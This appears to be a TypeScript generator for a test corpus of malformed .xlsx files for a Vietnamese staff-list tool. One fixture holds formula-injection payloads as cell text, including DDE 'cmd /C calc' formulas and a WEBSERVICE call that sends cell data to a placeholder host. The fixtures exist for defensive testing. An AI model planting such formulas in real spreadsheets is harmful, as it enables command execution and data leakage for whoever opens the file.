/**
 * The hostile-input corpus: .xlsx files an officer may really hand tochuc, or
 * that break readers — empty books, a used range down to row 1,048,576 or out to column XFD,
 * merged headers, formula errors, hyperlinks, 32,767-character cells, text that looks like a
 * formula, mixed TCVN3/VNI/Unicode, a person twice, dates before 1900 and in 2100, an encrypted
 * file, an old .xls, a cut-off zip and random bytes. test/hostileCorpus.test.ts runs each through
 * the reader, ingest, the reports and the CLI; test/fixtures/hostile/README.md says what each holds.
 *
 * exceljs writes what it can express; the rest is built by hand (fflate's zipSync for the zips,
 * a compound file by hand for the encrypted workbook). Deterministic: fixed document dates, zip
 * entries re-packed with a fixed time, a seeded generator for random bytes; one run, the same bytes.
 *
 * `npx tsx test/tools/generateCorpus.ts [dir]`
 */
import { promises as fs } from 'fs';
import path from 'path';
import { HOSTILE_DIR, ND108, PEOPLE, TITLE, SUBTITLE, HEADER, columnName, dateFormat, encryptedWorkbook, exceljsBytes, gridOf, handMadeXlsx, longText, oldXlsWorkbook, putRows, rowsXml, seededBytes, staffSheet, workbook, type Cell, type Fixtures } from './corpus/make';
import { moreFixtures } from './corpus/index';

export { HOSTILE_DIR };

// ───────────────────────────── the fixtures ─────────────────────────────

const FIXTURES: Fixtures = {
  /** 1. Two sheets and no value: one untouched, one with only formats, widths and a merge of empty cells. */
  '01-empty-workbook.xlsx': () => {
    const wb = workbook();
    wb.addWorksheet('Sheet1');
    const ws = wb.addWorksheet('Sheet2');
    ws.getColumn(2).width = 30;
    ws.getCell('B3').fill = { type: 'pattern', pattern: 'solid', fgColor: { argb: 'FFFFFF00' } };
    ws.getCell('C5').numFmt = 'dd/mm/yyyy';
    ws.mergeCells('D2:F3');
    return exceljsBytes(wb);
  },

  /** 2. The title of a staff list, and nothing under it. */
  '02-title-only.xlsx': () => {
    const wb = workbook();
    const ws = wb.addWorksheet('Danh sách');
    ws.getCell('A1').value = 'DANH SÁCH CÁN BỘ, CÔNG CHỨC, VIÊN CHỨC NĂM 2019';
    return exceljsBytes(wb);
  },

  /** 3. Title rows and a staff header, no data row. */
  '03-headers-only.xlsx': () => {
    const wb = workbook();
    staffSheet(wb, 'DS CBCCVC', []);
    return exceljsBytes(wb);
  },

  /**
   * 4. The staff list (rows 4–8), a used range declared to row 1,048,576, empty styled rows far below,
   * an empty column L merged from the header down to the last row, and one name at B1048576 with no
   * unit: Excel's last row.
   */
  '04-sparse-row-1048576.xlsx': () => {
    const grid = gridOf([[TITLE], [SUBTITLE], [], HEADER, ...PEOPLE]);
    grid.set(1048575, new Map([[1, 'Nguyễn Văn Cuối']]));
    const styledRows = '<row r="500000" s="2" customFormat="1" ht="15" customHeight="1"/><row r="1048575" s="2" customFormat="1"/>';
    const data = rowsXml(grid).replace('<row r="1048576">', `${styledRows}<row r="1048576">`);
    return handMadeXlsx(
      'DS CBCCVC',
      '<dimension ref="A1:M1048576"/><sheetViews><sheetView workbookViewId="0"/></sheetViews><sheetFormatPr defaultRowHeight="15"/>' +
        '<cols><col min="1" max="16384" width="12" customWidth="1"/></cols>' +
        `<sheetData>${data}</sheetData><mergeCells count="3"><mergeCell ref="A1:K1"/><mergeCell ref="A2:K2"/><mergeCell ref="L4:L1048576"/></mergeCells>`,
    );
  },

  /**
   * 5. The staff list with its "Căn cứ" column moved to XFD (the last of 16,384 columns), every column
   * given a width, a blank row of 16,384 styled empty cells, and a stray value alone at XFD9.
   */
  '05-column-xfd.xlsx': () => {
    const XFD = 16383;
    const people = PEOPLE.map((p) => p.slice(0, 10));
    const grid = gridOf([[TITLE], [SUBTITLE], [], HEADER.slice(0, 10), ...people]);
    grid.get(3)!.set(XFD, 'Căn cứ');
    PEOPLE.forEach((p, i) => {
      if (typeof p[10] === 'string') grid.get(4 + i)!.set(XFD, p[10]);
    });
    grid.set(8, new Map([[XFD, 'ô lạc ở cột cuối']]));
    const styled = Array.from({ length: XFD + 1 }, (_, c) => `<c r="${columnName(c)}3" s="2"/>`).join('');
    const data = rowsXml(grid, new Map([[2, styled]]));
    return handMadeXlsx(
      'DS CBCCVC',
      '<dimension ref="A1:XFD9"/><sheetViews><sheetView workbookViewId="0"/></sheetViews><sheetFormatPr defaultRowHeight="15"/>' +
        '<cols><col min="1" max="16384" width="10" customWidth="1"/></cols>' +
        `<sheetData>${data}</sheetData><mergeCells count="2"><mergeCell ref="A1:J1"/><mergeCell ref="A2:J2"/></mergeCells>`,
    );
  },

  /**
   * 6. Merged everywhere: the title merged across the whole row (A1:XFD1, "Merge & Center" on a selected
   * row); a two-row header with every label merged down and "Ngày sinh" merged over "Nam" | "Nữ"; one
   * unit merged down three people. A second sheet whose header row is one merged cell across all columns.
   */
  '06-merged-header.xlsx': () => {
    const wb = workbook();
    const ws = wb.addWorksheet('DS gộp ô');
    const top = ['STT', 'Họ và tên', 'Ngày sinh', null, 'Đơn vị', 'Chức vụ', 'Đối tượng', 'Tình trạng', 'Ngày nghỉ', 'Hình thức tinh giản'];
    putRows(ws, [
      [TITLE], [SUBTITLE], [], top, [null, null, 'Nam', 'Nữ'],
      [1, 'Nguyễn Văn An', '12/03/1975', null, 'Phòng Nội vụ', 'Trưởng phòng', 'Công chức'],
      [2, 'Trần Thị Bình', null, '05/07/1980', null, 'Chuyên viên', 'Công chức', 'Tinh giản', '15/06/2019', 'Thôi việc ngay'],
      [3, 'Hoàng Văn Giang', '09/09/1985', null, null, 'Chuyên viên', 'Công chức'],
      [4, 'Phạm Thị Dung', null, '02/02/1990', 'Trung tâm Y tế', 'Điều dưỡng', 'Viên chức'],
    ]);
    for (const m of ['A1:XFD1', 'A2:J2', 'A4:A5', 'B4:B5', 'C4:D4', 'E4:E5', 'F4:F5', 'G4:G5', 'H4:H5', 'I4:I5', 'J4:J5', 'E6:E8']) ws.mergeCells(m);
    const flat = wb.addWorksheet('Tiêu đề cột gộp');
    putRows(flat, [[TITLE], [], [], ['STT - Họ và tên - Ngày sinh - Đơn vị - Chức vụ'], [1, 'Nguyễn Văn An', '12/03/1975', 'Phòng Nội vụ', 'Trưởng phòng']]);
    flat.mergeCells('A1:E1');
    flat.mergeCells('A4:E4');
    return exceljsBytes(wb);
  },

  /** 7. Formulas and error values in data cells, beside formulas whose cached results are good. */
  '07-formula-errors.xlsx': () => {
    const wb = workbook();
    const units = wb.addWorksheet('Đơn vị');
    putRows(units, [['Mã', 'Đơn vị', 'Khối', 'Biên chế năm 2015', 'Biên chế năm 2019'], ['NV', 'Phòng Nội vụ', 'Chính quyền', 12, 10], ['YT', 'Trung tâm Y tế', 'Sự nghiệp', 40, 38]]);
    const lookup = (row: number) => `VLOOKUP(L${row},'Đơn vị'!$A$2:$B$3,2,FALSE)`;
    const header = [...HEADER, 'Mã đơn vị'];
    const ws = staffSheet(wb, 'DS CBCCVC', [
      [1, 'Nguyễn Văn An', { formula: '#REF!', result: { error: '#REF!' } }, 'Nam', 'Phòng Nội vụ', 'Trưởng phòng', 'Công chức', null, null, null, null, 'NV'],
      [2, 'Trần Thị Bình', '05/07/1980', 'Nữ', { formula: lookup(6), result: { error: '#N/A' } }, 'Chuyên viên', 'Công chức', 'Tinh giản', '15/06/2019', 'Thôi việc ngay', ND108, 'NVV'],
      [3, 'Lê Văn Cường', '20/11/1962', 'Nam', 'Phòng Nội vụ', 'Phó Trưởng phòng', 'Công chức', 'Tinh giản', { error: '#VALUE!' }, 'Nghỉ hưu trước tuổi', ND108, 'NV'],
      [4, 'Phạm Thị Dung', { formula: 'DATE(1990,2,2)', result: 32906 }, 'Nữ', { formula: lookup(8), result: 'Trung tâm Y tế' }, 'Điều dưỡng', 'Viên chức', 'Tinh giản', { formula: 'DATE(2019,12,31)', result: 43830 }, 'Thôi việc ngay', ND108, 'YT'],
      [5, 'Hoàng Văn Em', '01/01/1988', 'Nam', { formula: lookup(9) }, 'Chuyên viên', 'Công chức', null, null, null, null, 'NV'],
      [6, { formula: 'PROPER(#REF!)', result: { error: '#REF!' } }, '03/04/1979', 'Nữ', 'Trung tâm Y tế', 'Kế toán', 'Viên chức', 'Tinh giản', '30/06/2019', 'Thôi việc ngay', ND108, 'YT'],
    ] as Cell[][]);
    ws.getCell('L4').value = header[11];
    dateFormat(ws, 'C8', 'I8');
    return exceljsBytes(wb);
  },

  /** 8. Names and units as hyperlinks (web, e-mail, a place in the book), a HYPERLINK() formula and rich text. */
  '08-hyperlinks.xlsx': () => {
    const wb = workbook();
    staffSheet(wb, 'DS CBCCVC', [
      [1, { text: 'Nguyễn Văn An', hyperlink: 'https://hoso.mongcai.gov.vn/can-bo/1', tooltip: 'Hồ sơ' }, '12/03/1975', 'Nam', { text: 'Phòng Nội vụ', hyperlink: "#'Đơn vị'!A2" }, 'Trưởng phòng', 'Công chức'],
      [2, { text: 'Trần Thị Bình', hyperlink: 'mailto:binh@mongcai.gov.vn' }, '05/07/1980', 'Nữ', { text: 'Phòng Nội vụ', hyperlink: "#'Đơn vị'!A2" }, 'Chuyên viên', 'Công chức', 'Tinh giản', '15/06/2019', 'Thôi việc ngay', { text: ND108, hyperlink: 'https://vbpl.vn/108-2014' }],
      [3, { formula: 'HYPERLINK("https://hoso.mongcai.gov.vn/can-bo/3","Lê Văn Cường")', result: 'Lê Văn Cường' }, '20/11/1962', 'Nam', { text: 'Văn phòng HĐND và UBND', hyperlink: "#'Đơn vị'!A3" }, 'Phó Chánh Văn phòng', 'Công chức', 'Nghỉ hưu', '01/09/2019', 'Nghỉ hưu trước tuổi', ND108],
      [4, { richText: [{ text: 'Phạm ', font: { bold: true } }, { text: 'Thị ', font: { italic: true } }, { text: 'Dung', font: { color: { argb: 'FFC00000' } } }] }, '02/02/1990', 'Nữ', { text: 'Trung tâm Y tế', hyperlink: 'https://ytmongcai.vn' }, 'Điều dưỡng', 'Viên chức'],
    ] as Cell[][]);
    const units = wb.addWorksheet('Đơn vị');
    putRows(units, [['Đơn vị', 'Khối', 'Biên chế năm 2015', 'Biên chế năm 2019'], ['Phòng Nội vụ', 'Chính quyền', 12, 10], ['Văn phòng HĐND và UBND', 'Chính quyền', 20, 18], ['Trung tâm Y tế', 'Sự nghiệp', 40, 38]]);
    return exceljsBytes(wb);
  },

  /** 9. Cells of 32,767 characters, Excel's most: a basis, a unit, a name and a date that is no date. */
  '09-cells-32767-chars.xlsx': () => {
    const wb = workbook();
    staffSheet(wb, 'DS CBCCVC', [
      PEOPLE[0],
      [2, 'Trần Thị Bình', '05/07/1980', 'Nữ', 'Phòng Nội vụ', 'Chuyên viên', 'Công chức', 'Tinh giản', '15/06/2019', 'Thôi việc ngay', longText('Nghị định 108/2014/NĐ-CP về chính sách tinh giản biên chế; ', 32767)],
      [3, 'Lê Văn Cường', '20/11/1962', 'Nam', longText('Văn phòng HĐND và UBND thành phố Móng Cái, ', 32767), 'Phó Chánh Văn phòng', 'Công chức', 'Nghỉ hưu', '01/09/2019', 'Nghỉ hưu trước tuổi', ND108],
      [4, longText('Phạm Thị Dung ', 32767), '02/02/1990', 'Nữ', 'Trung tâm Y tế', 'Điều dưỡng', 'Viên chức', 'Tinh giản', '30/06/2019', 'Thôi việc ngay', ND108],
      [5, 'Hoàng Văn Em', '01/01/1988', 'Nam', 'Phòng Nội vụ', 'Chuyên viên', 'Công chức', 'Tinh giản', longText('ngày 15 tháng 6 năm 2019 ', 32767), 'Thôi việc ngay', ND108],
    ]);
    return exceljsBytes(wb);
  },

  /** 10. Text that a spreadsheet would run as a formula, or a template would fill, as names, units and bases. */
  '10-formula-injection.xlsx': () => {
    const wb = workbook();
    const reduced = (n: number, name: string, unit: string, basis = ND108): Cell[] => [n, name, '05/07/1980', 'Nữ', unit, 'Chuyên viên', 'Công chức', 'Tinh giản', '15/06/2019', 'Thôi việc ngay', basis];
    staffSheet(wb, 'DS CBCCVC', [
      reduced(1, '=HYPERLINK("http://x","y")', 'Phòng Nội vụ'),
      reduced(2, '+cmd|\' /C calc\'!A0', '-2+3'),
      reduced(3, '-2+3', '@SUM(1)'),
      reduced(4, '@SUM(1)', '=1+1', '=WEBSERVICE("http://x/?"&A1)'),
      reduced(5, '{{reduced.total}}', '{{#each reduced.people}}', "'=1+1"),
      reduced(6, '\t=1+1', '=cmd|\'/C calc\'!A0'),
    ]);
    return exceljsBytes(wb);
  },

  /** 11. One column of names and one of units in Unicode (NFC, NFD, Latin-1-only), TCVN3 and VNI, mixed. */
  '11-mixed-legacy-text.xlsx': () => {
    const wb = workbook();
    const p = (n: number, name: string, birth: string, unit: string, more: Cell[] = []): Cell[] => [n, name, birth, n % 2 ? 'Nam' : 'Nữ', unit, 'Chuyên viên', 'Công chức', ...more];
    const left = ['Tinh giản', '15/06/2019', 'Thôi việc ngay', ND108];
    staffSheet(wb, 'DS CBCCVC', [
      p(1, 'Nguyễn Văn An', '12/03/1975', 'Phòng Nội vụ'),
      p(2, 'NguyÔn V¨n B×nh', 'ngµy 12 th¸ng 3 n¨m 1975', 'Phßng Néi vô', left),
      p(3, 'Nguyeãn Vaên Bình', '20/11/1962', 'Phoøng Noäi vuï', left),
      p(4, 'D\u00ad¬ng ThÞ Thu H\u00ad¬ng', '02/02/1990', 'Phòng Nội vụ'.normalize('NFD'), left),
      p(5, 'Traàn Thò Bích Ngoïc', '05/07/1980', 'V¨n phßng H§ND vµ UBND'),
      p(6, 'Lê Văn Cường'.normalize('NFD'), '01/01/1988', 'Vaên phoøng HÑND vaø UBND'),
      p(7, 'Bùi Hà Tú', '03/04/1979', 'Văn phòng HĐND và UBND'),
      p(8, 'Lò Văn Ú', '09/09/1985', 'Phòng Nội vụ'),
    ]);
    return exceljsBytes(wb);
  },

  /** 12. The same person twice (rows 5 and 8; rows 6 and 9 with the birth date once as text, once as a date), and two namesakes born on different days. */
  '12-duplicate-person.xlsx': () => {
    const wb = workbook();
    const ws = staffSheet(wb, 'DS CBCCVC', [
      [1, 'Nguyễn Văn An', '12/03/1975', 'Nam', 'Phòng Nội vụ', 'Trưởng phòng', 'Công chức'],
      [2, 'Trần Thị Bình', '05/07/1980', 'Nữ', 'Phòng Nội vụ', 'Chuyên viên', 'Công chức', 'Tinh giản', '15/06/2019', 'Thôi việc ngay', ND108],
      [3, 'Nguyễn Văn Hùng', '01/01/1970', 'Nam', 'Trung tâm Y tế', 'Bác sĩ', 'Viên chức'],
      [4, 'Nguyễn Văn An', '12/03/1975', 'Nam', 'Phòng Nội vụ', 'Trưởng phòng', 'Công chức'],
      [5, 'Trần Thị Bình', new Date(Date.UTC(1980, 6, 5)), 'Nữ', 'Phòng Nội vụ', 'Chuyên viên', 'Công chức', 'Tinh giản', '15/06/2019', 'Thôi việc ngay', ND108],
      [6, 'Nguyễn Văn Hùng', '02/02/1982', 'Nam', 'Phòng Nội vụ', 'Chuyên viên', 'Công chức'],
    ]);
    dateFormat(ws, 'C9');
    return exceljsBytes(wb);
  },

  /**
   * 13. Dates before 1900: text, a date exceljs writes as a negative serial (Excel shows #####), serials
   * 1 and 59 (01/01 and 28/02/1900), 0 (00/01/1900, a formula's 0 in a date cell); and in 2100: text,
   * serials, 29/02/2100 (2100 is no leap year), 01/01/2201 (past tochuc's 2200).
   */
  '13-dates-1899-2100.xlsx': () => {
    const wb = workbook();
    const person = (n: number, name: string, birth: Cell, left: Cell[] = []): Cell[] => [n, name, birth, n % 2 ? 'Nam' : 'Nữ', 'Phòng Nội vụ', 'Chuyên viên', 'Công chức', ...left];
    const reducedOn = (day: Cell): Cell[] => ['Tinh giản', day, 'Thôi việc ngay', ND108];
    const ws = staffSheet(wb, 'DS CBCCVC', [
      person(1, 'Nguyễn Văn An', '15/03/1899'),
      person(2, 'Trần Thị Bình', new Date(Date.UTC(1899, 2, 15))),
      person(3, 'Lê Văn Cường', 1),
      person(4, 'Phạm Thị Dung', 59),
      person(5, 'Hoàng Văn Em', 0),
      person(6, 'Vũ Thị Giang', '01/01/2100', reducedOn('01/01/2100')),
      person(7, 'Đặng Văn Hải', 73051, reducedOn(73415)),
      person(8, 'Bùi Thị Lan', '29/02/2100', reducedOn('29/02/2100')),
      person(9, 'Đỗ Văn Minh', '31/12/1899', reducedOn('15/06/2019')),
      person(10, 'Ngô Thị Nga', '01/01/2201', reducedOn('01/01/2201')),
    ]);
    dateFormat(ws, 'C6', 'C7', 'C8', 'C9', 'C11', 'I11');
    return exceljsBytes(wb);
  },

  /** 14. An encrypted workbook (Excel's "Encrypt with Password"): an OLE compound file, not a zip. */
  '14-password-protected.xlsx': () => encryptedWorkbook(),
  /** 14. An Excel 97–2003 workbook renamed .xlsx. */
  '14-old-xls-renamed.xlsx': () => oldXlsWorkbook(),
  /** 14. A good workbook cut off at two thirds: no central directory. */
  '14-truncated-zip.xlsx': async () => {
    const wb = workbook();
    staffSheet(wb, 'DS CBCCVC', PEOPLE);
    const whole = await exceljsBytes(wb);
    return whole.subarray(0, Math.floor((whole.length * 2) / 3));
  },
  /** 14. Random bytes named .xlsx. */
  '14-random-bytes.xlsx': () => seededBytes(8, 4096),
};

export async function generateCorpus(dir = HOSTILE_DIR): Promise<Array<{ file: string; bytes: number }>> {
  await fs.mkdir(dir, { recursive: true });
  const written: Array<{ file: string; bytes: number }> = [];
  for (const [name, make] of Object.entries(Object.assign({}, FIXTURES, ...moreFixtures()) as Fixtures)) {
    const bytes = await make();
    await fs.writeFile(path.join(dir, name), bytes);
    written.push({ file: name, bytes: bytes.length });
  }
  return written;
}

if (require.main === module) {
  generateCorpus(process.argv[2] ?? HOSTILE_DIR)
    .then((files) => {
      for (const f of files) console.log(`${f.file.padEnd(32)} ${(f.bytes / 1024).toFixed(1).padStart(7)} KB`);
    })
    .catch((e: unknown) => {
      console.error(e instanceof Error ? e.stack : e);
      process.exit(1);
    });
}
